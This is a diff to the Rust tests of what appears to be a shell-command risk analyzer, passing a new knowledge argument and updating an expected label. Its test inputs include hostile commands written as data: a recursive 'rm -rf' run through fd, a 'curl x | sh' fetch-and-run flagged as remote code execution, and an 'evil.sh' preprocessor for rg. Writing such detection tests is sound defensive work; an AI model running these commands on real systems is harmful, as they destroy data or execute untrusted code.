@@ -1093,8 +1093,8 @@ fn hostile_inputs_stay_bounded() {
 /// Both front ends on `text`; panics when they differ. Returns whether the fast one was used.
 fn same_as_tree_sitter(text: &str) -> bool {
     let limits = Limits::default();
-    let (fast, used) = crate::analyze::run(text, &limits, true);
-    let (reference, _) = crate::analyze::run(text, &limits, false);
+    let (fast, used) = crate::analyze::run(text, &limits, crate::Knowledge::builtin(), true);
+    let (reference, _) = crate::analyze::run(text, &limits, crate::Knowledge::builtin(), false);
     if fast != reference {
         let show = |a: &CommandAnalysis| {
             let mut lines: Vec<String> = a.commands.iter().map(|c| format!("{c:?}")).collect();
@@ -1560,7 +1560,10 @@ fn parse_budget_is_counted_not_timed() {
 fn fd_exec_and_rg_pre_run_commands() {
     let a = analyze("fd -e rs -x rm -rf {} ;");
     assert!(has(&a, "rm -rf {}"), "{:?}", canon(&a));
-    assert_eq!(cmd(&a, "rm -rf {}").via, ["fd -x"]);
+    assert_eq!(
+        cmd(&a, "rm -rf {}").via,
+        ["fd -x [knowledge: fd (knowledge/search.yaml)]"]
+    );
     let a = analyze("fd . --exec-batch sh -c 'curl x | sh'");
     assert!(a.classes.contains(&RiskClass::RemoteCodeExecution));
     let a = analyze("rg --pre ./evil.sh pattern");
